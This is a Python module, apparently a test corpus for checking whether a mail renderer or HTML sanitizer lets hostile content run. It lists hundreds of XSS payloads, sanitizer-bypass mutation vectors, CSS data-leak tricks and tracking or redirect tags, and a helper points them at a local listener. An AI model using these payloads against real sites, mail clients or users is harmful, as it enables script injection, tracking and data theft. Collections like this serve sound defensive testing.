"""HTML that tries to run, fetch, send or lead somewhere: what a hostile mail may hold.

In each, @U is an address at which somebody listens, of that vector alone, and @J a script that asks
it. Gathered from the behaviours of browsers (HTML, CSS, SVG, MathML, Speculation Rules) and from
published ways past sanitizers; none was taken from evidence.
"""

from __future__ import annotations

_SCRIPTS = {
    "script": "<script>@J</script>",
    "script src": "<script src='@U/x.js'></script>",
    "script module": "<script type=module>@J</script>",
    "script module src": "<script type=module src='@U/x.js'></script>",
    "script after noise": "<scr<script>ipt>@J</script>",
    "script case": "<ScRiPt>@J</sCrIpT>",
    "script slash": "<script/x>@J</script>",
    "script unclosed": "<script>@J",
    "script in svg": "<svg><script>@J</script></svg>",
    "script href in svg": "<svg><script href='@U/x.js'/></svg>",
    "script xlink in svg": "<svg><script xlink:href='@U/x.js'></script></svg>",
    "script in template": "<template><script>@J</script></template><script>document.body.append("
    "document.querySelector('template').content.cloneNode(true))</script>",
    "import map": '<script type=importmap>{"imports":{"a":"@U/x.js"}}</script>'
    "<script type=module>import 'a'</script>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":'
    '["@U/next"]}]}</script>',
    "worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('@U/w')\"])))</script>",
    "dynamic import": "<script>import('@U/x.js')</script>",
    "beacon": "<script>navigator.sendBeacon('@U/b')</script>",
    "websocket": "<script>new WebSocket('@W')</script>",
    "event source": "<script>new EventSource('@U/e')</script>",
    "css paint": "<script>document.body.style.background='url(@U/p)'</script>",
    "document write": "<script>document.write('<img src=@U/d>')</script>",
    "parent": "<script>parent.document.body.append(new Image()).src='@U/p';@J</script>",
}
_HANDLERS = {
    "onerror": '<img src=x: onerror="@J">',
    "onerror slash": '<img/src=x:/onerror="@J">',
    "onerror newline": '<img src=x:\nonerror\n=\n"@J">',
    "onerror form feed": '<img\x0csrc=x:\x0conerror="@J">',
    "onerror grave": '<img src=`x:` onerror="@J">',
    "onload img": '<img src=\'data:image/gif;base64,R0lGODlhAQABAAAAACw=\' onload="@J" onerror="@J">',
    "onload svg": '<svg onload="@J">',
    "onload body": '<body onload="@J">',
    "onpageshow": '<body onpageshow="@J">',
    "onload frame": "<iframe srcdoc='x' onload=\"@J\"></iframe>",
    "onload style": '<style onload="@J">p{}</style>',
    "onerror link": "<link rel=stylesheet href='x:' onerror=\"@J\">",
    "onerror script": "<script src='x:' onerror=\"@J\"></script>",
    "onerror object": "<object data='x:' onerror=\"@J\"></object>",
    "onerror video": "<video><source src='x:' onerror=\"@J\"></video>",
    "onerror audio": "<audio src='x:' onerror=\"@J\">",
    "onfocus autofocus": '<input onfocus="@J" autofocus>',
    "onfocus tabindex": '<p tabindex=0 autofocus onfocus="@J">x',
    "onfocus select": '<select onfocus="@J" autofocus></select>',
    "onblur": '<input onblur="@J" autofocus><input autofocus>',
    "ontoggle": '<details open ontoggle="@J">x</details>',
    "onclick": '<p onclick="@J">x</p>',
    "onmouseover": '<p onmouseover="@J">x</p>',
    "onpointerenter": '<p onpointerenter="@J">x</p>',
    "accesskey": '<p accesskey=x onclick="@J">x</p>',
    "onanimationstart": "<style>@keyframes a{}</style><p style='animation:a 1s' "
    'onanimationstart="@J">x',
    "onanimationend": "<style>@keyframes a{to{left:0}}</style><p style='animation:a 10ms' "
    'onanimationend="@J">x',
    "ontransitionrun": "<style>p{transition:left 1s;left:0;position:relative}p:target{left:9px}"
    "</style><p id=x ontransitionrun=\"@J\">x<script>location.hash='x'</script>",
    "onbegin": '<svg><animate onbegin="@J" attributeName=x dur=1s>',
    "onend": '<svg><set onend="@J" attributeName=x dur=10ms>',
    "onscroll": "<body onscroll=\"@J\"><br><p style='height:5000px'>x<p id=y><script>"
    "location.hash='y'</script>",
    "onhashchange": "<body onhashchange=\"@J\"><script>location.hash='q'</script>",
    "popover": '<button popovertarget=x>open</button><p popover id=x onbeforetoggle="@J">y',
    "dialog": '<dialog open onclick="@J"><form method=dialog><button>x</button></form></dialog>',
    "command": "<button commandfor=x command=show-modal>x</button><dialog id=x "
    'onbeforetoggle="@J" oncommand="@J">y</dialog>',
    "oninput": '<form oninput="@J" onclick="@J"><input></form>',
    "onsubmit": '<form onsubmit="@J"><button>x</button></form>',
    "oncontentvisibility": '<p oncontentvisibilityautostatechange="@J" '
    "style='display:block;content-visibility:auto'>x",
    "onloadstart": "<video onloadstart=\"@J\" src='@U/v'></video>",
    "onmarquee": '<marquee onstart="@J">x</marquee>',
    "onwheel and more": '<p onwheel="@J" onkeydown="@J" onpaste="@J" onclick="@J">x',
}
_URLS = {
    "javascript link": '<a href="javascript:@J">x</a>',
    "javascript tab": '<a href="java&#9;script:@J">x</a>',
    "javascript control": '<a href="&#1;javascript:@J">x</a>',
    "javascript entity": '<a href="&#x6A;avascript&colon;@J">x</a>',
    "javascript frame": '<iframe src="javascript:@J"></iframe>',
    "javascript form": '<form action="javascript:@J"><button>x</button></form>',
    "javascript formaction": '<form><button formaction="javascript:@J">x</button></form>',
    "javascript area": '<map name=m><area href="javascript:@J" coords=0,0,99,99></map>'
    "<img usemap=#m width=99 height=99>",
    "javascript svg link": '<svg><a xlink:href="javascript:@J"><text y=9>x</text></a></svg>',
    "javascript math": '<math><mtext href="javascript:@J">x</mtext></math>',
    "javascript embed": '<embed src="javascript:@J">',
    "javascript object": '<object data="javascript:@J"></object>',
    "javascript base": '<base href="javascript:/a/"><a href="//%0a@J">x</a>',
    "data html frame": '<iframe src="data:text/html,<script>@J</script>"></iframe>',
    "data html object": '<object data="data:text/html,<script>@J</script>"></object>',
    "data html embed": '<embed src="data:text/html,<script>@J</script>">',
    "data svg embed": "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3"
    ".org/2000/svg' onload=&quot;@J&quot;/>\">",
    "data svg img": "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
    "<image href='@U/s.png' width='9' height='9'/></svg>\">",
    "srcdoc": '<iframe srcdoc="<script>@J</script>"></iframe>',
    "srcdoc image": "<iframe srcdoc=\"<img src='@U/i'>\"></iframe>",
    "blob": "<script>location=URL.createObjectURL(new Blob(['<script>fetch(`@U/b`)<\\/script>'],"
    "{type:'text/html'}))</script>",
}
_FETCHES = {
    "img": "<img src='@U/i.png'>",
    "img scheme-relative": "<img src='@R/i.png'>",
    "img lowsrc": "<img src='data:,' lowsrc='@U/i' dynsrc='@U/j' longdesc='@U/k'><img src='@U/l'>",
    "img srcset": "<img srcset='@U/i.png 1x'>",
    "img sizes": "<img sizes=100vw srcset='@U/i.png 100w'>",
    "img lazy": "<img loading=lazy src='@U/i.png'>",
    "img attribution": "<img attributionsrc='@U/a' src='@U/i'>",
    "image element": "<image src='@U/i.png'>",
    "picture": "<picture><source srcset='@U/p'><img src='data:,'></picture>",
    "input image": "<input type=image src='@U/i'>",
    "video": "<video src='@U/v' preload=auto></video>",
    "video poster": "<video poster='@U/p'></video>",
    "video source": "<video preload=auto><source src='@U/v' type=video/mp4></video>",
    "audio": "<audio src='@U/a' preload=auto></audio>",
    "track": "<video src='@U/v'><track default kind=captions src='@U/t'></video>",
    "body background": "<body background='@U/b'>",
    "table background": "<table background='@U/b'><tr><td>x</table>",
    "td background": "<table><tr><td background='@U/b'>x</table>",
    "bgsound": "<bgsound src='@U/b'><embed src='@U/e'>",
    "iframe": "<iframe src='@U/f'></iframe>",
    "frame": "<frameset><frame src='@U/f'></frameset>",
    "object": "<object data='@U/o'></object>",
    "embed": "<embed src='@U/e'>",
    "applet": "<applet code='x' codebase='@U/a'></applet><object data='@U/o' type=text/html></object>",
    "portal": "<portal src='@U/p'></portal><iframe loading=eager src='@U/f'></iframe>",
    "link stylesheet": "<link rel=stylesheet href='@U/s.css'>",
    "link alternate stylesheet": "<link rel='alternate stylesheet' title=a href='@U/s.css'>",
    "link icon": "<link rel=icon href='@U/i'><link rel=stylesheet href='@U/s'>",
    "link preload": "<link rel=preload as=image href='@U/p'>",
    "link preload imagesrcset": "<link rel=preload as=image imagesrcset='@U/p 1x'>",
    "link prefetch": "<link rel=prefetch href='@U/p'>",
    "link modulepreload": "<link rel=modulepreload href='@U/m.js'>",
    "link preconnect": "<link rel=preconnect href='@C'>",
    "link preconnect crossorigin": "<link rel=preconnect crossorigin href='@C'>",
    "link manifest": "<link rel=manifest href='@U/m'><link rel=preload as=fetch crossorigin href='@U/m'>",
    "link import": "<link rel=import href='@U/i'><link rel=preload as=style href='@U/i'>",
    "link in body svg": "<svg><style>@import '@U/s.css';</style></svg>",
    "svg image": "<svg><image href='@U/s.png' width=9 height=9 /></svg>",
    "svg image xlink": "<svg><image xlink:href='@U/s.png' width=9 height=9 /></svg>",
    "svg use": "<svg><use href='@U/s.svg#x'/></svg><svg><image href='@U/s'/></svg>",
    "svg feimage": "<svg width=9 height=9><filter id=f><feImage href='@U/s.png'/></filter>"
    "<rect width=9 height=9 filter=url(#f) /></svg>",
    "svg pattern style": "<svg><rect width=9 height=9 style='fill:url(@U/p#x)'/>"
    "<image href='@U/q' width=1 height=1 /></svg>",
    "svg animate href": "<svg><image width=9 height=9><set attributeName=href to='@U/s.png'/>"
    "</image></svg>",
    "svg foreignobject": "<svg><foreignObject><img xmlns='http://www.w3.org/1999/xhtml' src='@U/f'>"
    "</foreignObject></svg>",
}
_STYLES = {
    "style url": "<p style='background:url(@U/b)'>x",
    "style url quoted": "<p style='background:url(\"@U/b\")'>x",
    "style url escaped": "<p style='background:\\75rl(@U/b)'>x",
    "style url escape in word": "<p style='background-color:red;background:u\\72 l(@U/b)'>x",
    "style comment": "<p style='background:/**/url(@U/b)/**/'>x",
    "style image-set": "<p style='background:image-set(\"@U/b\" 1x)'>x",
    "style webkit image-set": "<p style='background:-webkit-image-set(url(@U/b) 1x)'>x",
    "style cross-fade": "<p style='background:-webkit-cross-fade(url(@U/a),url(@U/b),50%)'>x",
    "style list": "<ul style='list-style:url(@U/b)'><li>x</ul>",
    "style border image": "<p style='border:9px solid;border-image:url(@U/b) 9'>x",
    "style content": "<style>p::before{content:url(@U/b)}</style><p>x",
    "style cursor": "<style>p{cursor:url(@U/c),auto}</style><p style='background:url(@U/d)'>x",
    "style mask": "<p style='-webkit-mask:url(@U/m);mask-image:url(@U/m)'>x",
    "style shape": "<p style='float:left;shape-outside:url(@U/m);background:url(@U/n)'>x",
    "style filter": "<p style='filter:url(@U/f.svg#a)'>x<img src='@U/g'>",
    "style variable": "<p style='--a:url(@U/v);background:var(--a)'>x",
    "style import": "<style>@import '@U/s.css';</style>",
    "style import url": "<style>@import url(@U/s.css) screen;</style>",
    "style import escaped": "<style>@\\69mport '@U/s.css';</style>",
    "style font-face": "<style>@font-face{font-family:z;src:url(@U/f)}p{font-family:z}</style><p>xyz",
    "style unicode-range": "<style>@font-face{font-family:z;src:url(@U/f);unicode-range:U+0078}"
    "p{font-family:z}</style><p>x",
    "style attribute selector": "<style>input[value^=s]{background:url(@U/s)}</style>"
    "<input value=secret>",
    "style keyframes": "<style>@keyframes a{from{background:url(@U/k)}}p{animation:a 9s}</style><p>x",
    "style layer import": "<style>@import url('@U/l.css') layer(x);</style>",
    "style container": "<style>@media all{p{background-image:url(@U/m)}}</style><p>x",
    "style cdo": "<style><!-- p{background:url(@U/b)} --></style><p>x",
    "style src function": "<style>p{background:src('@U/b')}q{background:url('@U/c')}</style><q>x</q>",
    "style moz-binding": "<p style=\"-moz-binding:url('@U/x');behavior:url(@U/h);"
    "background-image:url('@U/i')\">x",
    "style quote break": "<p style=\"font-family:';background:url(@U/b);x:'\">x<p "
    "style=\"font-family:x;}p{background:url(@U/c)\">y<img src='@U/i'>",
    "style newline": "<p style='color:red\n;background:\nurl(\n@U/b\n)'>x",
}
_LEADS = {
    "link": "<a href='@U/l'>x</a>",
    "link blank": "<a href='@U/l' target=_blank>x</a>",
    "link parent name": "<a href='@U/l' target=other>x</a>",
    "link download": "<a href='@U/l' download>x</a>",
    "link ping": "<a href='#x' ping='@U/p'>x</a><a href='@U/q'>y</a>",
    "link svg": "<svg><a href='@U/l'><text y=9>x</text></a></svg>",
    "link math": "<math href='@U/l'><mi href='@U/m'>x</mi></math><a href='@U/n'>z</a>",
    "link area": "<map name=m><area href='@U/l' coords=0,0,99,99></map><img usemap=#m>",
    "link entity": "<a href='&#104;ttp&#58;@S/l'>x</a>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=@U/m'>",
    "meta refresh late": "<p>x<meta http-equiv=refresh content=\"0.1; URL='@U/m'\">",
    "meta refresh data": '<meta http-equiv=refresh content="0;url=data:text/html,'
    "<script>@J</script>\"><img src='@U/z'>",
    "meta csp report": "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri"
    " @U/r\"><iframe src='@U/f'></iframe>",
    "base": "<base href='@U/'><img src=i.png>",
    "base target": "<base href='@U/' target=_blank><a href=l>x</a>",
    "form": "<form action='@U/f'><input name=a value=b><button>x</button></form>",
    "form post": "<form action='@U/f' method=post><input type=submit></form>",
    "form formaction": "<form><button formaction='@U/f'>x</button></form>",
    "form image": "<form action='@U/f'><input type=image src='data:,' alt=x></form>",
    "form attribute": "<form id=f action='@U/f'></form><button form=f>x</button>",
    "isindex": "<isindex action='@U/f'><form action='@U/g'><button>x</button></form>",
    "keygen": "<form action='@U/f'><keygen><input type=submit></form>",
    "details link": "<details open><summary>x</summary><a href='@U/l'>y</a></details>",
}
_PARSERS = {
    "mutation math style": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img '
    'src=x: onerror=@Q&gt;">',
    "mutation form math": "<form><math><mtext></form><form><mglyph><style></math>"
    '<img src=x: onerror="@J">',
    "mutation svg style": '<svg></p><style><a id="</style><img src=x: onerror=@Q>">',
    "mutation noscript": '<noscript><p title="</noscript><img src=x: onerror=@Q>">',
    "mutation noembed": '<noembed><p title="</noembed><img src=x: onerror=@Q>">',
    "mutation xmp": '<xmp><p title="</xmp><img src=x: onerror=@Q>">',
    "mutation title svg": '<svg><title><style><img src=x: onerror="@J"></style></title></svg>',
    "mutation desc": '<svg><desc><style><img src=x: onerror="@J"></style></desc></svg>',
    "mutation annotation": "<math><annotation-xml encoding='text/html'><style><img src=x: "
    'onerror="@J"></style></annotation-xml></math>',
    "mutation table": '<table><td><svg><p><style></table><img src=x: onerror="@J">',
    "mutation select": '<select><template><img src=x: onerror="@J"></template></select>'
    '<img src=x: onerror="@J">',
    "mutation comment": '<!--><img src=x: onerror="@J">-->',
    "mutation comment bang": '<!-- --!><img src=x: onerror="@J"> -->',
    "mutation cdata": '<![CDATA[><img src=x: onerror="@J">]]>',
    "mutation cdata svg": '<svg><![CDATA[</svg><img src=x: onerror="@J">]]>',
    "processing instruction": "<?xml version='1.0'?><?x ><img src=x: onerror=\"@J\">?>",
    "doctype": "<!DOCTYPE x [<!ENTITY y '<img src=@U/e>'>]>&y;<img src=x: onerror=\"@J\">",
    "textarea": '<textarea><img title="</textarea><img src=x: onerror=@Q>">',
    "plaintext": '<img src=x: onerror="@J"><plaintext>',
    "null in tag": "<scr\x00ipt>@J</scr\x00ipt><im\x00g src=x: onerror=1><img src='@U/n'>",
    "null in attribute": "<img src=x: on\x00error=1 onerror\x00=1><img src='\x00@U/n'>",
    "bom": "\ufeff<script>@J</script>",
    "utf-7": "<meta charset=utf-7>+ADw-script+AD4-1+ADw-/script+AD4-<img src='@U/7'>",
    "overlong": "\udcc0\udcbcscript\udcc0\udcbe<img src='@U/o'>",
    "meta charset utf-16": "<meta charset=utf-16><img src='@U/6'>",
    "iso-2022-jp": '<meta charset=iso-2022-jp><p title="\x1b(J"><img src=x: onerror="@J">',
    "unclosed attribute": '<p title=\'<img src=x: onerror="@J">',
    "unclosed tag": "<img src='@U/u' ",
    "duplicate attribute": "<img src='data:,' src='@U/d'><img src='@U/e' src='data:,'>",
    "slashes": "</////><img////src='@U/s'////>",
    "custom element": '<x-a is=x onclick="@J" onfocus="@J" tabindex=0 autofocus>x</x-a>',
    "shadow root": "<p><template shadowrootmode=open><img src='@U/s'><script>@J</script></template>",
    "slot": "<p><template shadowrootmode=open><style>:host{background:url(@U/h)}</style><slot>"
    "</template>x",
    "clobber": "<form id=attributes><input name=attributes></form><img name=body id=body src='@U/c'>",
    "clobber cookie": "<img name=cookie src='@U/c'><a id=location href='@U/l'>x</a>",
    "nested frames": "<iframe srcdoc=\"<iframe srcdoc=&quot;<img src='@U/n'>&quot;></iframe>\"></iframe>",
    "conditional comment": "<!--[if gte IE 4]><script>1</script><![endif]--><img src='@U/c'>",
    "vml": "<v:rect xmlns:v='urn:schemas-microsoft-com:vml'><v:fill src='@U/v'></v:rect>"
    "<img src='@U/w'>",
    "deep": "<b>" * 600 + "<img src='@U/d'>",
    "long attribute": "<p title='" + "a" * 200_000 + "'><img src='@U/l'>",
}
#: Those that take the whole page with them, so each has a page of its own.
LEAVING = {
    "link top": "<a href='@U/t' target=_top>x</a>",
    "link parent": "<a href='@U/t' target=_parent>x</a>",
    "form top": "<form action='@U/t' target=_top><button>x</button></form>",
    "script top": "<script>top.location='@U/t'</script>",
    "base top": "<base target=_top><a href='@U/t'>x</a>",
    "window open": "<p onclick=\"open('@U/t')\">x</p><script>open('@U/t')</script>",
}
VECTORS = {
    **_SCRIPTS, **_HANDLERS, **_URLS, **_FETCHES, **_STYLES, **_LEADS, **_PARSERS,
}  # fmt: skip


def filled(html: str, listener: str, connect: str) -> str:
    """Return a vector that asks `listener` ("http://127.0.0.1:1234/h/raw/7"), or connects."""
    script = f"new Image().src='{listener}/js'"
    bare = "new/**/Image().src=`" + f"{listener}/js`"
    for sign, value in (
        ("@J", script),
        ("@Q", bare),
        ("@W", listener.replace("http:", "ws:") + "/ws"),
        ("@R", listener.removeprefix("http:")),
        ("@S", listener.removeprefix("http:")),
        ("@C", connect),
        ("@U", listener),
    ):
        html = html.replace(sign, value)
    return html
